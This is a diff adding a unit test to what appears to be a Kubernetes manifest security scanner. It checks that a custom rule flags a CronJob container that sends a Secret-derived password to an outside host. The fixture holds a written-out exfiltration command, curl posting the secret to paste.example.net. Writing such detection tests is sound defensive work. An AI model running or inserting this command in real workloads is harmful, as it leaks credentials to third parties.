@@ -262,6 +262,26 @@ describe('variables', () => {
     expect(c?.execution).toEqual({ invocations: [], actions: [], flows: [] });
   });
 
+  it('sees the execution model of a real container: a Secret sent to a host', () => {
+    const text = rule(
+      "containers.filter(c, c.execution.flows.exists(f, f.sink == 'send' && f.source.credential == 'secret' && f.host == 'paste.example.net')).map(c, c.path)",
+    );
+    const object = cronJob([
+      {
+        name: 'a',
+        image: 'x',
+        env: [{ name: 'PW', valueFrom: { secretKeyRef: { name: 'db', key: 'pw' } } }],
+        command: ['sh', '-c', 'curl -d "$PW" https://paste.example.net/u'],
+      },
+      { name: 'b', image: 'x', command: ['sh', '-c', 'curl -d "hello" https://paste.example.net/u'] },
+    ]);
+    expect(
+      findingsOf(text, object)
+        .findings.filter((f) => f.rule === 'custom-check')
+        .map((f) => f.path),
+    ).toEqual(['spec.jobTemplate.spec.template.spec.containers[0]']);
+  });
+
   it('maps the execution model: flows with their source and destination host', () => {
     const execution: Execution = {
       invocations: [
